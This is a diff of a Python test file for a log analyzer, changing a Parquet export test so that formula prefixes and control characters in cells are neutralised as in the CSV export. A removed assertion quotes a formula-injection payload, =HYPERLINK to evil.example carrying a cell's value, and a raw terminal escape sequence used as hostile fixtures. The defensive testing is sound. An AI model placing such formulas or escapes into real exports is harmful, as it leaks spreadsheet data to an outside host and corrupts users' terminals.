@@ -24,11 +24,10 @@ import subprocess
 import sys
 from pathlib import Path
 
-import bugs
 import pyarrow.parquet as pq
 import pytest
-from conftest import REPO, Workspace
 from lxml import html as lxml_html
+from sec_harness import REPO, Workspace
 from secbuild import BENIGN_LOG, WIRESERVER_FAILURE, failing_log, log_line, tar_file, tar_of
 
 HOSTILE = [  # the first three become evidence in every report format
@@ -189,30 +188,24 @@ def test_json_export_and_report_are_ascii_with_escaped_controls(ws: Workspace,
         json.loads(run.stdout)
 
 
-def test_parquet_keeps_values_typed_and_verbatim(ws: Workspace) -> None:
-    """``analyzer/export.py`` writes Parquet with every column typed ``string`` and the values
-    verbatim - no formula prefix, control characters kept (lossless, like the JSON export).
-    That is the behaviour asserted here; it is *reported* as a gap: a spreadsheet that imports
-    the Parquet file (Excel Power Query, LibreOffice) gets ``=HYPERLINK(...)`` and raw ESC/C1
-    text unneutralised, unlike the CSV export."""
-    bundle = hostile_bundle(ws, raw_bytes=False)  # raw non-UTF-8 bytes: BUG-14 below
+def test_parquet_cells_are_neutralised_like_csv(ws: Workspace) -> None:
+    """Parquet exports end up in spreadsheets too (Excel Power Query, LibreOffice): string
+    cells get the CSV treatment (formula prefix neutralised, control characters escaped)."""
+    bundle = hostile_bundle(ws, raw_bytes=False)
     out = ws.root / "records.parquet"
     run = ws.run_cli("parse", bundle, "--table", "records", "--format", "parquet",
                      "--output", str(out))
     assert run.rc == 0, run
     table = pq.read_table(out)
     assert {str(t) for t in table.schema.types} == {"string"}
-    rows = table.to_pylist()
-    exported = json.loads(ws.run_cli("parse", bundle, "--table", "records",
-                                     "--format", "json").stdout)
-    assert [r["message"] for r in rows] == [r["message"] for r in exported]
-    messages = [r["message"] for r in rows]
-    assert any(m.endswith('=HYPERLINK("http://evil.example/?"&A1,"x")') for m in messages)
-    assert any("\x1b[2J" in m for m in messages)  # raw, not escaped
+    messages = [r["message"] for r in table.to_pylist()]
+    assert any("HYPERLINK" in m for m in messages)
+    assert not any(m.startswith(("=", "+", "-", "@")) for m in messages)
+    assert not any("\x1b" in m or "\x9b" in m for m in messages)
+    assert any("\\x1b[2J" in m for m in messages)  # shown escaped
     out.unlink()
 
 
-@pytest.mark.xfail(strict=True, reason=bugs.PARQUET_SURROGATES)
 def test_parquet_export_of_a_log_with_non_utf8_bytes(ws: Workspace, bundle: Path) -> None:
     out = ws.root / "records.parquet"
     run = ws.run_cli("parse", bundle, "--table", "records", "--format", "parquet",
